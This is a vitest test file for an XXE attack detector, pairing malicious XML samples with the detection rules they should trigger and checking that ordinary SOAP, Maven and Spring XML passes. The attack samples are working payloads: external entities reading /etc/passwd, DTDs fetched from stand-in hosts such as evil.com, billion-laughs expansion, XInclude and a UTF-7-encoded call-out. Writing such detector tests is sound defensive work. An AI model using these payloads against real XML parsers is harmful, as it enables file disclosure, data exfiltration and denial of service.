import { describe } from 'vitest';
import { detectXxe } from '../../src/detect/xxe/index.ts';
import { checkAttacks, checkBenign, checkRobust } from './fixture-check.ts';

describe('XXE detector', () => {
  checkAttacks(
    detectXxe,
    'xxe',
    [
      { value: '<!DOCTYPE x SYSTEM "//x/x" > <x>a</x>', rule: 'xxe.external_dtd' },
      { value: '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>', rule: 'xxe.external_entity' },
      { value: '<!DOCTYPE x [ <!ENTITY % y SYSTEM "http://evil/y.dtd" > %y; ]><x>a</x>', rule: 'xxe.parameter_entity' },
      { value: '<!DOCTYPE x [<!ENTITY % xxe PUBLIC "any" "http://evil.com/evil.dtd">%xxe;]><root/>' },
      { value: '<!doctype foo [ <!element foo any ><!entity data system "netdoc:/etc/passwd">]><foo>&data;</foo>' },
      { value: '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;">]><lolz>&lol3;</lolz>', rule: 'xxe.entity_expansion' },
      { value: '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>', rule: 'xxe.xinclude' },
      { value: '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include namespace="http://evil.example/"/></xs:schema>', rule: 'xxe.schema_include' },
      // A lone URL where the attribute's grammar wants namespace/location pairs: only a call-out.
      { value: '<x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://evil.example/x.xsd"/>', rule: 'xxe.schema_location' },
      { value: "<x xsi:schemaLocation='urn:a http://a.example/a.xsd  http://oob.example/'/>", rule: 'xxe.schema_location' },
      { value: '<x xsi:noNamespaceSchemaLocation="http://evil.example/x.xsd"/>', severity: 1 },
      {
        value: '<?xml version="1.0" encoding="UTF-7"?>\n+ADwAIQ-DOCTYPE foo+AFs +ADwAIQ-ELEMENT foo ANY +AD4\n+ADwAIQ-ENTITY xxe SYSTEM +ACI-http://hack-r.be:1337+ACI +AD4AXQA+\n+ADw-foo+AD4AJg-xxe+ADsAPA-/foo+AD4',
        rule: 'xxe.external_entity',
      },
      { value: '<!DOCTYPE r [<!ENTITY x SYSTEM "http://evil/">]><r>&x;</r>', location: 'query' },
      { value: '<!ENTITY % a SYSTEM "http://evil/a.dtd">', location: 'raw_body' },
    ],
    'xml',
  );
  checkBenign(
    detectXxe,
    [
      { value: '<?xml version="1.0"?><order><id>5</id></order>' },
      { value: '<!DOCTYPE html><html><body>hi</body></html>', location: 'body' },
      { value: '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">', location: 'body' },
      { value: '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body/></soap:Envelope>' },
      { value: 'a < b and c > d', location: 'body' },
      { value: '<!-- comment --><a/>' },
      // Pairs as SOAP and Maven write them: suspicious at most.
      { value: '<project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd"/>', below: 2 },
      { value: '<beans xsi:schemaLocation="\n    http://www.springframework.org/schema/beans\n    https://www.springframework.org/schema/beans/spring-beans.xsd"/>', below: 2 },
    ],
    'xml',
  );
  checkRobust(detectXxe);
});
